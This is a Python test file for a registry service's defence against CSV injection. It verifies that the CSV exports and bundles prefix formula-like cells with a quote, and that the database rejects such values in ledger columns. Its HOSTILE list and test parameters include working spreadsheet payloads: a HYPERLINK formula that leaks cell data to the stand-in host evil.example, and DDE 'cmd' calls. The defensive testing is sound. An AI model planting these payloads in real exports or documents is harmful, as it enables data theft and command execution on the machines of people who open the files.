"""No CSV the registry produces reaches a spreadsheet as a formula (CSV injection).

A text cell beginning with ``=``, ``+``, ``-``, ``@``, TAB or CR gets a leading ``'`` in
every CSV (the streaming export, and export bundles built by the worker or the CLI; the
compliance report's CSV is checked in test_compliance.py); numbers stay numbers, and JSON
lines carry the values unchanged. An anonymous report's title is the way in an outsider has.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import asyncpg
import httpx
import pytest

from service.db.queries.exports import (
    COLUMNS,
    CONSTRAINED,
    DATASETS,
    FORMULA_STARTS,
    GUARDED,
    csv_query_for,
)
from service.domain.checkpoints import Signer, load_or_create_signer
from service.domain.export_jobs import run_next_job
from tests.conftest import REPO_ROOT, register_model

#: Titles an attacker would send: each begins like a formula.
HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
#: Free text that merely contains those characters stays as it was.
HARMLESS = "Leaks data = bad; costs +/- 2 @ scale"


async def _report_anonymously(client: httpx.AsyncClient, model: str, title: str) -> None:
    r = await client.post(
        "/v1/reports",
        json={
            "title": title,
            "description": title,
            "category": "privacy",
            "models": [model],
        },
    )
    assert r.status_code in {200, 201}, r.text


async def _seed(client: httpx.AsyncClient, admin: dict[str, str], uniq: str) -> dict[str, Any]:
    model = await register_model(client, admin, f"csvf{uniq}/m", provider="-Acme")
    for title in [*HOSTILE, HARMLESS]:
        await _report_anonymously(client, str(model["name"]), title)
    return model


def _csv_rows(text: str) -> list[dict[str, str]]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def _assert_neutralised(rows: list[dict[str, str]]) -> None:
    titles = sorted(row["title"] for row in rows)
    assert titles == sorted(["'" + t for t in HOSTILE] + [HARMLESS])
    for row in rows:
        assert row["description"] == row["title"]
        for value in row.values():
            assert not value.startswith(FORMULA_STARTS), value


async def test_the_streaming_csv_export_neutralises_formulas_and_jsonl_keeps_values(
    client: httpx.AsyncClient, admin: dict[str, str], regulator: dict[str, str], uniq: str
) -> None:
    model = await _seed(client, admin, uniq)
    params = {"model_id": str(model["id"])}
    r = await client.get("/v1/exports/incidents", params={**params, "format": "csv"}, headers=admin)
    assert r.status_code == 200, r.text
    _assert_neutralised(_csv_rows(r.text))

    r = await client.get(
        "/v1/exports/incidents", params={**params, "format": "jsonl"}, headers=regulator
    )
    records = [json.loads(line) for line in r.text.splitlines()]
    assert sorted(rec["title"] for rec in records) == sorted([*HOSTILE, HARMLESS])

    # Text columns of other datasets too; numbers stay numbers.
    r = await client.get("/v1/exports/models", params={**params, "format": "csv"}, headers=admin)
    (row,) = _csv_rows(r.text)
    assert row["provider"] == "'-Acme"
    r = await client.get("/v1/exports/events", params={**params, "format": "csv"}, headers=admin)
    seqs = [row["seq"] for row in _csv_rows(r.text)]
    assert seqs
    assert all(s.isdigit() for s in seqs)
    r = await client.get("/v1/exports/models", params={**params, "format": "jsonl"}, headers=admin)
    assert json.loads(r.text)["provider"] == "-Acme"


@pytest.fixture
def bundle_signer(tmp_path: Path) -> Signer:
    return load_or_create_signer(tmp_path / "signing.pem", name="registry.test/ledger")


async def test_bundles_built_by_the_worker_neutralise_formulas(
    client: httpx.AsyncClient,
    pool: asyncpg.Pool,
    bundle_signer: Signer,
    admin: dict[str, str],
    regulator: dict[str, str],
    uniq: str,
) -> None:
    model = await _seed(client, admin, uniq)
    r = await client.post(
        "/v1/exports",
        json={"datasets": ["incidents"], "format": "csv", "model_id": str(model["id"])},
        headers=regulator,
    )
    assert r.status_code == 202, r.text
    job_id = r.json()["id"]
    for _ in range(50):
        await run_next_job(pool, signer=bundle_signer)
        job = (await client.get(f"/v1/exports/jobs/{job_id}", headers=regulator)).json()
        if job["status"] == "done":
            break
    else:
        raise AssertionError("the export job did not finish")
    r = await client.get(f"/v1/exports/jobs/{job_id}/files/incidents.csv", headers=regulator)
    assert r.status_code == 200, r.text
    _assert_neutralised(_csv_rows(r.text))


async def test_bundles_written_by_the_cli_neutralise_formulas(
    database_url: str, client: httpx.AsyncClient, admin: dict[str, str], uniq: str, tmp_path: Path
) -> None:
    model = await _seed(client, admin, uniq)
    out = tmp_path / "bundle"
    env = {
        **os.environ,
        "DATABASE_URL": database_url,
        "REGISTRY_SIGNING_KEY_FILE": str(tmp_path / "signing.pem"),
    }
    args = ["export", "--dataset", "incidents", "--format", "csv", "--model-id", str(model["id"])]
    result = await asyncio.to_thread(
        subprocess.run,
        [sys.executable, "-m", "service", *args, "--out", str(out)],
        cwd=REPO_ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=180,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    with (out / "incidents.csv").open(encoding="utf-8", newline="") as f:
        _assert_neutralised(_csv_rows(f.read()))


async def test_every_text_column_of_every_csv_export_is_guarded(
    conn: asyncpg.Connection,
) -> None:
    """A column added later must be guarded too: only rendered timestamps may go bare."""
    for dataset, query in DATASETS.items():
        statement = await conn.prepare(query)
        text = {a.name for a in statement.get_attributes() if a.type.name in {"text", "varchar"}}
        timestamps = {c for c in text if f'"Z"\') AS {c}' in query}
        constrained = CONSTRAINED.get(dataset, frozenset())
        assert text - timestamps - constrained == GUARDED[dataset], dataset
        guarded = await conn.prepare(csv_query_for(dataset))
        assert tuple(a.name for a in guarded.get_attributes()) == COLUMNS[dataset]


@pytest.mark.parametrize(
    ("stage", "kind", "subject_type"),
    [
        ("=1+1", "model.registered", "model"),
        ("prevent", "=cmd|' /C calc'!A0", "model"),
        ("prevent", "model.registered", "@SUM(1)"),
        ("prevent", "model.registered", "-2"),
    ],
)
async def test_the_ledger_holds_its_unguarded_text_columns_to_a_word(
    conn: asyncpg.Connection, stage: str, kind: str, subject_type: str
) -> None:
    """The ledger export goes unguarded: the database refuses what would need a guard."""
    assert CONSTRAINED["events"] == {"stage", "kind", "subject_type"}
    with pytest.raises(asyncpg.CheckViolationError):
        async with conn.transaction():
            await conn.execute(
                "INSERT INTO events (stage, kind, subject_type, subject_id, occurred_at) "
                "VALUES ($1, $2, $3, gen_random_uuid(), now())",
                stage,
                kind,
                subject_type,
            )
